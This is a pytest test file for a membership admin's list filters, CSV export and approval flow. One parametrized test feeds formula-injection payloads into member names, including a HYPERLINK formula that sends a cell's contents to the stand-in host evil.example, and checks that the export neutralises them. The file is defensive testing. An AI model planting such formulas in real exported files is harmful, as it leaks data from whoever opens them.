"""Staff: the member list, filters, CSV export, and approval."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.core import mail
from django.utils import timezone

from tests.members.factories import MemberFactory
from tipwatch.members.models import Member, MemberState

pytestmark = pytest.mark.django_db

INDEX = "/admin/members/"


@pytest.fixture
def staff(client, admin_user):
    client.force_login(admin_user)
    return client


@pytest.fixture
def people(membership_types):
    individual, concession, _ = membership_types
    return {
        "pending": MemberFactory(
            name="Pat Pending", email="pat@example.org", membership_type=individual
        ),
        "confirmed": MemberFactory(
            name="Cora Confirmed",
            email="cora@example.org",
            state=MemberState.CONFIRMED,
            membership_type=concession,
            newsletter_opt_in=True,
        ),
        "active": MemberFactory(
            name="Abel Active",
            email="abel@example.org",
            state=MemberState.ACTIVE,
            membership_type=individual,
            alerts_opt_in=True,
        ),
    }


def test_list_and_filters(staff, people):
    response = staff.get(INDEX)
    assert response.status_code == 200
    for person in people.values():
        assert person.email.encode() in response.content
    filtered = staff.get(INDEX, {"state": "confirmed"})
    assert b"cora@example.org" in filtered.content
    assert b"pat@example.org" not in filtered.content
    opted = staff.get(INDEX, {"alerts_opt_in": "true"})
    assert b"abel@example.org" in opted.content
    assert b"cora@example.org" not in opted.content


def test_csv_export(staff, people):
    response = staff.get(INDEX, {"export": "csv"})
    assert response.status_code == 200
    body = (
        b"".join(response.streaming_content).decode()
        if response.streaming
        else (response.content.decode())
    )
    rows = list(csv.DictReader(io.StringIO(body)))
    assert {row["Email"] for row in rows} == {p.email for p in people.values()}
    assert "Newsletter" in rows[0]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+SUM(1+1)",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_export_keeps_formulas_as_text(staff, membership_types, name):
    MemberFactory(name=name, email="formula@example.org", postal_address="=1+1")

    response = staff.get(INDEX, {"export": "csv"})

    body = b"".join(response.streaming_content).decode()
    [row] = list(csv.DictReader(io.StringIO(body)))
    assert row["Name"] == "'" + name
    assert row["Postal address"] == "'=1+1"
    assert row["Email"] == "formula@example.org"


def test_approve_confirmed_member(staff, people):
    member = people["confirmed"]
    url = f"{INDEX}approve/{member.pk}/"
    assert f'href="{url}"'.encode() in staff.get(INDEX).content
    page = staff.get(url)
    assert page.status_code == 200
    assert b"Yes, approve" in page.content
    response = staff.post(url)
    assert response.status_code == 302
    member.refresh_from_db()
    assert member.state == MemberState.ACTIVE
    assert member.approved_at is not None
    assert member.renewal_due == timezone.localdate() + datetime.timedelta(days=365)
    assert len(mail.outbox) == 1
    assert mail.outbox[0].to == ["cora@example.org"]
    assert mail.outbox[0].subject == "Welcome to tipwatch"
    assert "/members/manage/" in mail.outbox[0].body


def test_cannot_approve_unconfirmed(staff, people):
    member = people["pending"]
    assert f"{INDEX}approve/{member.pk}/".encode() not in staff.get(INDEX).content
    staff.post(f"{INDEX}approve/{member.pk}/")
    member.refresh_from_db()
    assert member.state == MemberState.PENDING
    assert mail.outbox == []


def test_approve_needs_permission(client, people, django_user_model):
    from django.contrib.auth.models import Permission

    user = django_user_model.objects.create_user("editor", password="x")
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    response = client.post(f"{INDEX}approve/{people['confirmed'].pk}/")
    assert response.status_code in (302, 403)
    people["confirmed"].refresh_from_db()
    assert people["confirmed"].state == MemberState.CONFIRMED


def test_edit_form_refuses_to_activate(staff, people):
    member = people["confirmed"]
    response = staff.post(
        f"{INDEX}edit/{member.pk}/",
        {
            "name": member.name,
            "email": member.email,
            "postal_address": "",
            "membership_type": member.membership_type_id,
            "state": "active",
            "renewal_due": "",
            "notes": "",
        },
    )
    assert response.status_code == 200
    assert b"Use the Approve button on the member list" in response.content
    assert Member.objects.get(pk=member.pk).state == MemberState.CONFIRMED


def test_membership_types_are_snippets(staff, membership_types):
    response = staff.get("/admin/snippets/members/membershiptype/")
    assert response.status_code == 200
    assert b"Concession" in response.content
